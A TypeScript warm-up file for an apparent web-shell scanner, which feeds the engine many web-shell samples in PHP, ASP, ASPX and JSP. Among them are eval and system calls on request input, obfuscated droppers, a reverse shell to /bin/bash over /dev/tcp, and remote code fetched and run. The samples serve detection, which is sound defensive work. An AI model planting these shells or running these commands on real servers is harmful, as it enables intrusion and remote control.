/**
 * A short run of the engine over small made-up files before a scan (`hostward scan` does it
 * in each of its threads). Why: V8 optimises a hot function with the branches it has seen run;
 * a branch first taken later throws that code away, and the lexer and the data flow are large
 * functions that then compile again (~0.1 s of CPU each time). A fresh process meeting the
 * rarer shapes of real code one file at a time paid seconds of compilation per thread; these
 * snippets take those branches once, while the code still runs unoptimised. The verdicts are
 * thrown away and nothing is kept: the engine holds no state between files.
 */
import type { WebshellScanner } from "./scanner.ts";
import { lex } from "./php/lexer.ts";

/** Legitimate PHP in the shapes frameworks use. */
const PHP_APP = `<?php
declare(strict_types=1);
namespace Acme\\Blog;

use Acme\\Core\\{Model, Db};

#[Attribute]
/**
 * A doc comment with eval($x) and <?php inside.
 */
final class Post extends Model implements \\JsonSerializable
{
    public const TABLE = 'posts';
    private static array $cache = [];
    protected ?Db $db = null;

    public function __construct(private string $title = "untitled", int ...$ids)
    {
        $this->title = trim($title);
        self::$cache[$this->title] ??= [];
        static::$cache[] = $ids;
    }

    public function render(array $vars, &$out): string
    {
        global $config;
        $html = "<h1>{$this->title}</h1>" . PHP_EOL;
        $html .= sprintf('%s: %d', $vars['name'] ?? 'x', count($vars));
        foreach ($vars as $k => $v) {
            if ($k === 'skip' || $v <=> 0 || !isset($v)) { continue; }
            $html .= htmlspecialchars((string) $v, ENT_QUOTES) . "\\n\\t\\x41\\101\\u{1F600}";
        }
        for ($i = 0, $n = 10; $i < $n; $i++) { $out[$i] = $i ** 2; $n -= 1; $i <<= 0; $n >>= 0; $i **= 1; }
        while (false) { break; }
        do { $x = 0x1F + 0b101 + 017 + 1_000 + .5 + 1.5e3; } while (false);
        $fn = fn($a) => $a * 2;
        $cl = function ($b) use (&$html): int { return strlen($b); };
        $obj?->method()?->other;
        list($a, $b) = [1, 2];
        [$c, $d] = array(3, 4);
        $e = $a <> $b ? $c : $d;
        $e = $a != $b && $c !== $d || $a == $b;
        $e = $a ?: $b;
        $e %= 3; $e ^= 1; $e |= 2; $e &= 7; $e *= 2; $e /= 2; $e -= 1; $e += 1;
        $e = -$e; $e = ~$e; $e++; --$e;
        $s = <<<EOT
        Dear {$vars['name']}, your order $e is ready.
        EOT;
        $t = <<<'NOW'
        raw $text here
        NOW;
        $u = \`echo\`;
        echo $html, $s, $t;
        print($u);
        return $this->helper($html) . self::TABLE . Post::TABLE;
    }

    private function helper(string $h): string
    {
        switch ($h) { case 'a': return 'b'; default: return strtolower(str_replace('x', 'y', $h)); }
    }

    public function jsonSerialize(): mixed
    {
        return ['title' => $this->title, 'n' => array_map(fn ($x) => $x + 1, [1, 2, 3])];
    }
}

function helper_function($a, $b = null, &$c = []) { $c[] = $a; return $a . $b; }
define('ACME_VERSION', '1.2.3');
$r = helper_function('a', 'b');
$q = $_SERVER['REQUEST_URI'];
if (defined('ACME_VERSION')) { require_once __DIR__ . '/bootstrap.php'; }
include 'templates/header.php';
usort($items, function ($x, $y) { return $x <=> $y; });
array_walk($items, [$this, 'cb']);
spl_autoload_register(static function ($c) {});
$data = json_decode(file_get_contents(__DIR__ . '/data.json'), true);
# hash comment
/* block */
#[Route('/x')]
// a line comment ends at ?> which leaves PHP
?>
<div class="x"><?= htmlspecialchars($r) ?></div>
<?php if ($r): ?><p>yes</p><?php endif; ?>
<?php
$x = "non-ASCII Ünïcödé é";
$ÿname = 'latin1 name';
echo $ÿname;
`;

/** Shapes of web shells and droppers: request input into sinks, decoders, dynamic names. */
const PHP_SHELLS = [
  `<?php @eval($_POST['x']); ?>`,
  `<?php assert($_REQUEST['a']); system($_GET['c']); echo \`$_GET[d]\`; passthru("ls " . $_COOKIE['x']);`,
  `<?php $f = 'sys' . 'tem'; $f($_REQUEST['c']); $g = "\\x65\\x76\\x61\\x6c"; $h = str_rot13('riny'); $k = strrev('tressa');`,
  `<?php $a = chr(101) . chr(118) . chr(97) . chr(108); $b = implode('', ['as', 'sert']); $c = str_replace('#', '', 'e#v#a#l'); $d = substr('xxsystem', 2); $e = strtr('abc', 'abc', 'xyz'); $f = sprintf('%s%c', 'ev', 97) . 'l'; $g = pack('H*', '6576616c'); $h = 'abc'[1] . ~'xx' . ('a' ^ 'b') . ('a' | 'b') . ('a' & 'b'); $i = strtoupper(ucfirst(trim(' x '))); $j = (ord('a') + 3 * 2 - 1) % 7 / 1; $l = hex2bin('6576'); $m = urldecode('%65'); $n = rawurldecode('%76'); $o = substr_replace('eXal', 'v', 1, 1);`,
  `<?php \${'_PO' . 'ST'}['x']; $$k = $v; \${$n}($_GET['a']); extract($_POST); parse_str($_SERVER['QUERY_STRING'], $out); import_request_variables('gp'); foreach ($_POST as $k => $v) { $$k = $v; }`,
  `<?php $z = base64_decode(gzinflate(str_rot13($_POST['z']))); eval(gzuncompress(base64_decode('eJzLSM3JyVcozy/KSQEAGgQEXQ=='))); eval(gzdecode($x)); $y = openssl_decrypt($_POST['d'], 'aes-128-ecb', 'k'); eval($y ^ 'key');`,
  `<?php $code = '${"QUJD".repeat(700)}'; eval(base64_decode($code)); preg_replace('/.*/e', $_POST['r'], 'x'); preg_replace("/x/e", 'system("id")', 'x'); mb_ereg_replace('.*', $_POST['r'], 'x', 'e');`,
  `<?php $f = create_function('$a', $_POST['b']); $g = create_function('', 'return 1;'); array_map('assert', (array) $_REQUEST['a']); call_user_func($_GET['f'], $_GET['a']); call_user_func_array('system', [$_GET['c']]); register_shutdown_function('system', $_POST['c']); array_filter([$_GET['c']], 'system'); uasort($a, $_GET['s']); $o->uksort('assert'); ob_start('sys'.'tem'); set_error_handler($_GET['h']);`,
  `<?php filter_var($_POST['c'], FILTER_CALLBACK, ['options' => 'assert']); $r = new ReflectionFunction($_GET['f']); $r->invokeArgs([$_GET['a']]); $q = new ReflectionFunction('system'); $x = (new ReflectionClass('A'))->getDocComment(); eval($x);`,
  `<?php file_put_contents('shell.php', $_POST['d']); file_put_contents($_GET['p'], base64_decode($_POST['d'])); file_put_contents('x.php', '<?php eval($_POST[1]); ?>'); $fp = fopen('a.php', 'w'); fwrite($fp, $_POST['c']); fputs(fopen($_GET['f'], 'w'), gzinflate($b)); fclose($fp);`,
  `<?php if (isset($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], $_POST['dir'] . '/' . $_FILES['f']['name']); copy($_GET['src'], $_GET['dst']); } $n = pathinfo($_FILES['f']['name']); if (in_array(end(explode('.', $_FILES['f']['name'])), ['jpg'])) {}`,
  `<?php for ($i = 0; $i < 100; $i++) { mail($_POST['to'], $_POST['s'], $_POST['b']); } if (md5($_POST['pass']) == '5f4dcc3b5aa765d61d8327deb882cf99') { system($_POST['c']); } if (sha1($_COOKIE['p']) !== 'x') exit;`,
  `<?php $s = fsockopen($_GET['h'], 4444); $p = proc_open('/bin/sh -i', [0 => $s, 1 => $s, 2 => $s], $pipes); shell_exec('/bin/bash -i >& /dev/tcp/1.2.3.4/4444 0>&1'); for ($port = 1; $port < 100; $port++) { @fsockopen($_POST['host'], $port); } $sock = socket_create(AF_INET, SOCK_STREAM, 0); socket_bind($sock, '0.0.0.0', 1); socket_connect($sock, $_GET['h'], 1); exec('cmd.exe');`,
  `<?php goto a; a: goto b; b: goto c; c: goto d; d: goto e; e: goto f; f: goto g; g: goto h; h: goto i; i: goto j; j: goto k; k: goto l; l: goto m; m: goto n; n: goto o; o: goto p; p: eval($x);`,
  `<?php $GLOBALS['t'] = ['sys' . 'tem', 'ev' . 'al']; $GLOBALS['t'][0]($_GET['c']); $GLOBALS['t'][1]($_POST['x']); $GLOBALS['t'][0]($_GET['d']); $GLOBALS['t'][0]($_GET['e']); $GLOBALS['t'][0]($_GET['f']); $GLOBALS['t'][0]($_GET['g']); $g = $GLOBALS; $g['_GET']; $GLOBALS['_POST']['x'];`,
  `<?php $h = getenv('HTTP_X_CMD'); system($h); $b = file_get_contents('php://input'); eval($b); $r = file_get_contents('http://example.invalid/p.txt'); eval($r); $hd = getallheaders(); eval($hd['X']); $i = $_SERVER['HTTP_USER_AGENT']; assert($i); $k = 'HTTP_' . 'X'; eval($_SERVER[$k]); $fi = filter_input(INPUT_GET, 'x');`,
  `<?php include $_GET['page']; include('images/.cache' . '.png'); require 'data:text/plain;base64,PD9waHA='; include_once "php://input"; require_once($_FILES['f']['tmp_name']); include 'x' . '.ico';`,
  `<?php phpinfo(); echo ini_get('safe_mode'), ini_get('disable_functions'), ini_get('open_basedir'); echo php_uname(), posix_getpwuid(posix_geteuid()), getmyuid(), get_current_user(); $d = opendir('.'); while ($f = readdir($d)) { echo is_writable($f), fileperms($f), filesize($f); } scandir('/'); glob('*'); chmod('x', 0777); unlink('y'); rmdir('z'); rename('a', 'b'); touch('c'); mkdir('d'); disk_free_space('/'); if ($_POST['c']) system($_POST['c']);`,
  `<?php class X { function __invoke($c) { system($c); } } call_user_func(new X(), $_GET['c']); class Y { public $p; function set($v) { $this->p = $v; return $this->run(); } function run() { return eval($this->p); } } (new Y)->set($_POST['y']); function f($a) { return $a; } eval(f($_GET['z'])); function g(&$r) { $r = 'x'; } g($q); $_SESSION['p'] = base64_decode($_COOKIE['p']);`,
  `<?php $a = array('a' => 'ev', 'b' => 'al'); $n = $a['a'] . $a['b']; $n($_POST['x']); $arr = explode(',', 'sys,tem'); $m = $arr[0] . $arr[1]; $m($_GET['c']); $p = []; $p[] = 'as'; $p[] = 'sert'; $o = join('', $p); $o($_REQUEST['o']); array_push($stack, $_GET['s']); array_unshift($q, $_POST['q']); preg_match('/(.*)/', $_GET['m'], $mm); eval($mm[1]); $w = $_POST; eval($w['x']); $v = (int) $_GET['i']; $u = (bool) $x;`,
  `<?php ("sys" . "tem")($_GET['c']); (base64_decode('c3lzdGVt'))($_GET['c']); 'system'($_GET['c']); $x = $y(...$_POST['a']); $f = $_GET['f']; $f(); $o->{$_GET['m']}(); $c = "{$_GET['c']}"; $d = "run $_POST[c] now"; echo \`$d\`; $e = "\\163\\171\\163\\164\\145\\155"; $e($_GET['x']);`,
  `<?php $k = 'x'; $t = $_GET['t']; $t = "a" . $t; $u = 'handler_' . $_GET['h']; $u(); $v = DIR . $_GET['v']; include $v; $w = trim(stripslashes($_POST['w'])); eval($w); $s = "\\e\\f\\v\\r\\\\\\$\\"";`,
];

/** A fragment without an open tag (included code) and a document without one (text). */
const PHP_OTHER = ["<?= $title ?>\n<p>x</p>\n<?php # c\n echo 1 ?>", "<?php\n# only a comment ?>", "$a = $_GET['x'];\neval($a);\n", "<html><body>no php here</body></html>\n", "<?xml version=\"1.0\"?><?php echo 1;", "<? echo 1; ?>", "<?php\n$x = 'unterminated", "<?php\n/* unterminated", "<?php $a = <<<EOT\nunterminated heredoc\n"];

const ASP = [
  `<%@ Language="VBScript" %>\n<%\nDim cmd\ncmd = Request.Form("cmd")\nSet sh = Server.CreateObject("WScript.Shell")\nResponse.Write sh.Exec("cmd /c " & cmd).StdOut.ReadAll()\nExecute(Request("x"))\nEval Request.QueryString("y")\n' comment\nSet fso = CreateObject("Scripting.FileSystemObject")\nSet st = Server.CreateObject("ADODB.Stream")\nst.Write Request.BinaryRead(Request.TotalBytes)\nst.SaveToFile Server.MapPath(Request("f")), 2\nIf x = 1 Then\n  Response.Write "<b>" & Chr(65) & "</b>"\nEnd If\nFor i = 1 To 3 : Next\n%>`,
  `<%@ Language="JScript" %><% var c = Request.Item["c"]; eval(c); var s = new ActiveXObject("WScript.Shell"); Response.Write(s.Exec(c).StdOut.ReadAll()); %>`,
  `<html><body><% Response.Write("Hello " & Server.HTMLEncode(Request.QueryString("name"))) %>\n<!-- #include file="header.inc" -->\n</body></html>`,
  `<%#@~^DgAAAA==\\ko$K6,JCV^GJqAQAAA==^#~@%>`,
];

const ASPX = [
  `<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Diagnostics" %>\n<script runat="server">\nprotected void Page_Load(object sender, EventArgs e) {\n  string c = Request["c"];\n  var p = new ProcessStartInfo("cmd.exe", "/c " + c) { UseShellExecute = false, RedirectStandardOutput = true };\n  Response.Write(Process.Start(p).StandardOutput.ReadToEnd());\n  System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form["a"])).CreateInstance("X").Equals(this);\n  var f = Request.Files[0]; f.SaveAs(Server.MapPath("~/" + f.FileName));\n  eval(Request.Item["z"], "unsafe");\n}\n</script>`,
  `<%@ WebHandler Language="C#" Class="H" %>\nusing System; using System.Web;\npublic class H : IHttpHandler {\n  public void ProcessRequest(HttpContext ctx) { ctx.Response.Write("ok " + ctx.Request.QueryString["n"]); }\n  public bool IsReusable { get { return false; } }\n}`,
  `<%@ Page Language="VB" %>\n<script runat="server">\nSub Page_Load()\n  Dim s As String = Request("c")\n  Response.Write(Shell("cmd /c " & s))\n  Dim x = Microsoft.JScript.Eval.JScriptEvaluate(Request.Item("y"), Microsoft.JScript.Vsa.VsaEngine.CreateEngine())\nEnd Sub\n</script>`,
  `<%@ Page Language="Jscript" %><% eval(Request.Item["pass"], "unsafe"); %>`,
];

const JSP = [
  `<%@ page import="java.io.*,java.util.*" contentType="text/html" %>\n<%\nString c = request.getParameter("cmd");\nif (c != null) {\n  Process p = Runtime.getRuntime().exec(new String[] {"/bin/sh", "-c", c});\n  BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));\n  String l; while ((l = r.readLine()) != null) out.println(l);\n  new ProcessBuilder(c.split(" ")).start();\n}\n%>`,
  `<%@ page import="javax.script.*" %><% ScriptEngine e = new ScriptEngineManager().getEngineByName("js"); e.eval(request.getParameter("x")); %>`,
  `<%! class U extends ClassLoader { Class g(byte[] b) { return super.defineClass(b, 0, b.length); } } %><% String k = "e45e329feb5d925b"; session.putValue("u", k); javax.crypto.Cipher c = javax.crypto.Cipher.getInstance("AES"); new U().g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext); %>`,
  `<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="1.2"><jsp:scriptlet>Runtime.getRuntime().exec(request.getParameter("c"));</jsp:scriptlet></jsp:root>`,
  `<%@ page contentType="text/html" pageEncoding="UTF-8" %>\n<html><body><h1>Hello \${param.name}</h1>\n<% for (int i = 0; i < 3; i++) { %><p><%= i %></p><% } %>\n<%-- a comment --%>\n<c:out value="\${user.name}" />\n</body></html>`,
  `<% java.lang.reflect.Method m = Class.forName("java.lang.Runtime").getMethod("exec", String.class); m.invoke(Runtime.getRuntime(), request.getParameter("c")); Object o = request.getSession().getServletContext(); ((org.apache.catalina.core.StandardContext) o).addFilter(null); %>`,
];

/** Runs every snippet through the scanner once (and the PHP lexer's growth path): see the file comment. */
export function warmUp(scanner: WebshellScanner): void {
  const files: Array<[string, string]> = [["app.php", PHP_APP], ...PHP_SHELLS.map((s, i) => [`s${i}.php`, s] as [string, string]), ...PHP_OTHER.map((s, i) => [`o${i}.inc`, s] as [string, string])];
  for (const [i, s] of ASP.entries()) files.push([`a${i}.asp`, s]);
  for (const [i, s] of ASPX.entries()) files.push([`x${i}.${i === 1 ? "ashx" : "aspx"}`, s]);
  for (const [i, s] of JSP.entries()) files.push([`j${i}.jsp`, s]);
  // unknown names: the engine guesses the language from the content
  files.push(["upload.jpg", PHP_SHELLS[0]!], ["note.txt", JSP[0]!], ["a.bin", "\x00\x01binary"]);
  // V8 gives a function its feedback vector (where it records the branches taken) only after a
  // few calls: tiny files first, so that the snippets below are recorded
  for (let k = 0; k < 10; k++) for (const name of ["t.php", "t.asp", "t.aspx", "t.jsp"]) scanner.scan(name, TINY);
  for (const [name, text] of files) scanner.scan(name, Buffer.from(text, "latin1"));
  // a file denser in tokens than the lexer's first guess makes its buffers grow
  lex("<?php " + "f($a[1],(2));".repeat(400), Infinity, false);
}

const TINY = Buffer.from("<?php $a = f('x'); ?><% x %>");
